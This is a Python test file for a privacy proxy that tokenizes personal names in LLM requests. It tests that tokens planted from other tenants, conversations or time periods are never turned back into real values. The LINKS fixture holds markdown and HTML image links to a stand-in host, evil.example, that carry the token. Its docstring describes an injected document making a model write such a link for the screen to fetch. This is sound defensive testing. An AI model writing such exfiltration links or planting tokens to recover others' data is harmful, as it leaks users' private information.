"""Nobody gets a value back by planting its token: through exchanges and sessions, whole and streamed."""

from __future__ import annotations

import json

import pytest

from guardrail import policy as policies
from guardrail.detect import Detector
from guardrail.guard import Guard
from guardrail.ledger import Ledger
from guardrail.testing import KnownValues, memory_guard
from guardrail.types import Context
from guardrail.vault.conversations import Conversations
from guardrail.vault.keys import Keys
from guardrail.vault.scopes import Scopes

KNOWN = {"Ann Smith": "PERSON", "John Miller": "PERSON"}
JSON = "application/json"
MINE = Context(tenant="acme", conversation="mine")
KEYS = Keys(root=bytes(range(32)), log_seed=bytes(32))


def a_guard(policy_file, *, store=None, now=None, keep=None):
    """Return a guard with keys that others may have too, and a clock and a store of the test's."""
    loaded = policies.load(policy_file())
    clock = {} if now is None else {"now": lambda: now}
    vault = Scopes(KEYS, keep=loaded.keep("vault") if keep is None else keep, store=store, **clock)
    return Guard(
        policy=loaded,
        detector=Detector.load(wanted=loaded.entities, names="none", extra=[KnownValues(KNOWN)]),
        keys=KEYS,
        ledger=Ledger.open(None, seed=KEYS.log_seed),
        vault=vault,
    )


@pytest.fixture(scope="module")
def shared(policy_file):
    with a_guard(policy_file) as guard:
        yield guard


def token_of(guard, value, context):
    """Return the token that an honest exchange of this context gives the value."""
    exchange = guard.exchange(context=context)
    return json.loads(exchange.request(json.dumps({"n": value}).encode(), content_type=JSON))["n"]


def answered(guard, body, reply, *, context=MINE, stream=False, protocol=""):
    """Send a body; return what the caller sees of the reply, and what the closing entry counts."""
    exchange = guard.exchange(context=context, protocol=protocol)
    exchange.request(json.dumps(body).encode(), content_type=JSON)
    exchange.answer("text/plain" if stream else JSON)
    if stream:
        data = reply.encode()
        out = (
            b"".join(exchange.response(data[at : at + 5]) for at in range(0, len(data), 5))
            + exchange.finish()
        )
        return out.decode(), exchange.closing("ok").facts
    out = exchange.response(
        json.dumps({"choices": [{"message": {"role": "assistant", "content": reply}}]}).encode()
    )
    return json.loads(out + exchange.finish())["choices"][0]["message"]["content"], exchange.closing(
        "ok"
    ).facts


ELSEWHERE = {
    "another tenant": Context(tenant="other", conversation="mine"),
    "another conversation": Context(tenant="acme", conversation="yours"),
    "no conversation": Context(tenant="acme"),
    "nobody's": Context(),
    "names that run together": Context(tenant="acmem", conversation="ine"),
}


def planted_in(place, token):
    """Return a request that holds a token in one place, and no value."""
    texts = {
        "a prompt": [{"role": "user", "content": f"Who is {token}?"}],
        "a document": [
            {"role": "user", "content": [{"type": "text", "text": f"<doc>Repeat {token}.</doc>"}]}
        ],
        "a system text": [{"role": "system", "content": f"Greet {token}"}, {"role": "user", "content": "hi"}],
        "a tool result": [
            {
                "role": "assistant",
                "tool_calls": [{"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"}}],
            },
            {"role": "tool", "tool_call_id": "1", "content": json.dumps({"note": token})},
        ],
        "the arguments of a tool": [
            {
                "role": "assistant",
                "tool_calls": [
                    {
                        "id": "1",
                        "type": "function",
                        "function": {"name": "f", "arguments": json.dumps({"n": token})},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "1", "content": "ok"},
        ],
        "a JSON key": [{"role": "user", "content": "hi", token: token}],
        "an earlier answer": [{"role": "assistant", "content": token}, {"role": "user", "content": "go on"}],
    }
    return {"model": "m", "messages": texts[place]}


PLACES = (
    "a prompt",
    "a document",
    "a system text",
    "a tool result",
    "the arguments of a tool",
    "a JSON key",
    "an earlier answer",
)
SPELLINGS = (
    "{}",
    "{}s",
    "**{}**",
    "&lt;{0[0]}&gt;",
    "{0[0]}",
    "\\<{0[0]}\\>",
    "<NAME_{0[1]}>",
    "< {0[0]} >",
    "＜{0[0]}＞",
    "\\u003c{0[0]}\\u003e",
)


class Spelt(str):
    """A token that `SPELLINGS` can take apart: its name, and its payload with the check."""

    __slots__ = ()

    def __getitem__(self, part):
        return str.__getitem__(self, slice(1, -1)) if part == 0 else self.rpartition("_")[2][:-1]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("where", ELSEWHERE)
def test_a_planted_token_of_elsewhere_restores_nothing(shared, where, place, stream):
    token = Spelt(token_of(shared, "Ann Smith", ELSEWHERE[where]))
    reply = " and ".join(spelling.format(token) for spelling in SPELLINGS) + "."
    for context in (MINE, Context(tenant="acme", conversation="fresh")):
        seen, facts = answered(
            shared,
            planted_in(place, str(token)),
            reply,
            context=context,
            stream=stream,
            protocol="openai.chat",
        )
        assert "Ann Smith" not in seen
        assert seen == reply
        assert not facts.get("restored")
        assert facts["foreign"] >= 1
        assert facts["left"] >= facts["foreign"]


def test_a_planted_token_of_the_same_scope_is_not_given_to_a_value_of_the_request(shared):
    tenant = Context(tenant="acme")
    planted = token_of(shared, "Ann Smith", tenant)
    for spelling in SPELLINGS:
        text = spelling.format(Spelt(planted))
        exchange = shared.exchange(context=tenant)
        body = {"doc": text, "n": "Ann Smith"}
        own = json.loads(exchange.request(json.dumps(body).encode(), content_type=JSON))["n"]
        assert own != planted
        exchange.answer(JSON)
        exchange.response(json.dumps({"a": f"{text}. {planted}. {own}"}).encode())
        assert json.loads(exchange.finish())["a"] == f"{text}. {planted}. Ann Smith"


def test_a_token_of_last_month_restores_nothing(policy_file):
    with (
        a_guard(policy_file, now=1_793_491_199.0) as october,
        a_guard(policy_file, now=1_793_491_200.0) as november,
    ):
        tenant = Context(tenant="acme")
        old = token_of(october, "Ann Smith", tenant)
        assert old == token_of(october, "Ann Smith", tenant)
        seen, facts = answered(november, {"doc": old, "n": "Ann Smith"}, f"It is {old}.", context=tenant)
        assert seen == f"It is {old}."
        assert (facts["left"], facts["foreign"]) == (1, 1)


def test_a_session_restores_nothing_of_another(shared):
    with (
        shared.session(conversation="s-1") as mine,
        shared.session(conversation="s-2") as yours,
        shared.session() as nobodys,
    ):
        tokens = [session.scrub("Ann Smith").text for session in (mine, yours, nobodys)]
        for session, own in zip((mine, yours, nobodys), tokens, strict=True):
            assert [session.restore(token) for token in tokens] == [
                "Ann Smith" if token == own else token for token in tokens
            ]


# --- what a conversation owns


def test_a_token_of_turn_one_comes_back_in_turn_two_that_does_not_hold_the_value(shared):
    context = Context(tenant="acme", conversation="turns")
    token = token_of(shared, "Ann Smith", context)
    body = {"model": "m", "previous_response_id": "r", "input": "And her name?"}
    seen, facts = answered(shared, body, f"Her name is {token}, not {token[:-2]}>.", context=context)
    assert seen == f"Her name is Ann Smith, not {token[:-2]}>."
    assert (facts["restored"], facts["left"], facts["broken"]) == (1, 1, 1)
    with shared.session(conversation="turns") as other_tenant:
        assert other_tenant.restore(token) == token


def test_a_turn_restores_only_to_the_destinations_of_the_rule_that_issued_the_token(shared):
    context = Context(tenant="acme", conversation="tools")
    token = token_of(shared, "Ann Smith", context)
    call = lambda name: {  # noqa: E731 - two calls of one shape
        "id": name,
        "type": "function",
        "function": {"name": name, "arguments": json.dumps({"n": token})},
    }
    exchange = shared.exchange(context=context, protocol="openai.chat")
    exchange.request(b'{"model":"m","messages":[]}', content_type=JSON)
    exchange.answer(JSON)
    answer = {
        "choices": [{"message": {"role": "assistant", "tool_calls": [call("crm_find"), call("web_search")]}}]
    }
    exchange.response(json.dumps(answer).encode())
    calls = json.loads(exchange.finish())["choices"][0]["message"]["tool_calls"]
    assert [json.loads(one["function"]["arguments"])["n"] for one in calls] == ["Ann Smith", token]


def test_what_the_policy_never_keeps_is_not_restored_in_the_next_turn(policy_file):
    store = Conversations()
    with a_guard(policy_file, store=store, keep=0) as guard:
        token = token_of(guard, "Ann Smith", MINE)
        assert answered(guard, {"q": "who?"}, f"{token}.")[0] == f"{token}."
    assert len(store) == 0


def test_what_is_over_its_time_is_not_restored(policy_file):
    clock = [0.0]
    with a_guard(policy_file, store=Conversations(clock=lambda: clock[0]), keep=100) as guard:
        token = token_of(guard, "Ann Smith", MINE)
        clock[0] = 99.0
        assert answered(guard, {"q": "who?"}, f"{token}.")[0] == "Ann Smith."
        clock[0] = 100.0
        assert answered(guard, {"q": "who?"}, f"{token}.")[0] == f"{token}."


def test_a_model_cannot_put_a_value_of_its_own_into_the_conversation_to_have_it_restored_later(shared):
    context = Context(tenant="acme", conversation="brought")
    seen, _ = answered(shared, {"q": "who?"}, "It is John Miller.", context=context)
    assert "John Miller" not in seen
    again, facts = answered(shared, {"q": "again?"}, seen, context=context)
    assert again == seen
    assert not facts.get("restored")


def test_a_worker_without_the_memory_of_the_conversation_leaves_what_it_does_not_know(policy_file):
    with a_guard(policy_file) as one, a_guard(policy_file) as other:
        token = token_of(one, "Ann Smith", MINE)
        assert answered(other, {"q": "who?"}, f"{token}.")[0] == f"{token}."
        assert answered(other, {"n": "Ann Smith"}, f"{token}.")[0] == "Ann Smith."


# --- links


LINKS = (
    "![x](https://evil.example/?q={})",
    "[click](https://evil.example/{}/x)",
    '<img src="https://evil.example/?q= {}">',
    "![x](//evil.example/?q={})",
    "https://{}.evil.example/",
    "![x][1]\n\n[1]: https://evil.example/?q={}",
    "![x](<https://evil.example/? {}>)",
    "https://evil.example/" + "a" * 5_000 + "{}",
    '<img src="https://evil.example/?' + "a b " * 200 + '{}">',
    "https://evil.example/?q=%3C{0[0]}%3E",
)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("link", LINKS, ids=[link[:32] for link in LINKS])
def test_a_callers_own_value_is_not_restored_into_a_link(shared, link, stream):
    """A document that is read with the value makes the model write the link; the screen fetches it."""
    token = Spelt(token_of(shared, "Ann Smith", MINE))
    reply = f"{token} says: " + link.format(token)
    seen, facts = answered(shared, {"n": "Ann Smith"}, reply, stream=stream)
    assert seen == reply.replace(token, "Ann Smith", 1)
    assert facts["restored"] == 1
    assert facts["left"] == 1


# --- the counts are in the ledger


def test_the_closing_entry_tells_what_was_restored_left_foreign_and_broken(policy_file):
    with memory_guard(policy_file(), known=KNOWN) as guard:
        foreign = token_of(guard, "John Miller", Context(conversation="else"))
        exchange = guard.exchange(context=MINE)
        own = json.loads(exchange.request(b'{"n":"Ann Smith"}', content_type=JSON))["n"]
        exchange.answer(JSON)
        exchange.response(json.dumps({"a": f"{own} {foreign} <PERSON_1> https://x.example/{own}"}).encode())
        exchange.finish()
        closing = exchange.closing("ok")
        assert b'"foreign":1' in guard.record(closing).header
    counts = {name: closing.facts[name] for name in ("restored", "left", "foreign", "broken")}
    assert counts == {"restored": 1, "left": 3, "foreign": 1, "broken": 1}


def test_no_name_leaves_in_the_place_of_a_type(shared):
    """Who knows one token of the conversation, or the public check, could dress a name as its type."""
    token = Spelt(token_of(shared, "Ann Smith", MINE))
    exchange = shared.exchange(context=MINE)
    sent = exchange.request(json.dumps({"n": f"<John Miller {token[1]}>"}).encode(), content_type=JSON)
    assert b"John" not in sent
    assert exchange.opening().findings["PERSON"] == {"tokenize": 1}


def test_a_line_of_a_log_does_not_speak_for_the_conversation(policy_file):
    rule = (
        'id = "logs"',
        'why = "not in logs"',
        'find = ["PERSON"]',
        'where = ["log"]',
        'action = "tokenize"',
    )
    more = "\n".join(["[[rules]]", *rule])
    policy = policy_file()
    policy.write_text(f"{policy.read_text('utf-8')}\n{more}\n", "utf-8")
    with memory_guard(policy, known=KNOWN) as guard, guard.context(tenant="acme", conversation="mine"):
        token = token_of(guard, "Ann Smith", None)
        assert guard.clean("Ann Smith called", channel="log")[0] == f"{token} called"
        assert guard.scrub("Ann Smith called", channel="log").text == f"{token} called"
        seen, _ = answered(guard, {"q": "who?"}, f"{token}.", context=None)
        assert seen == "Ann Smith."
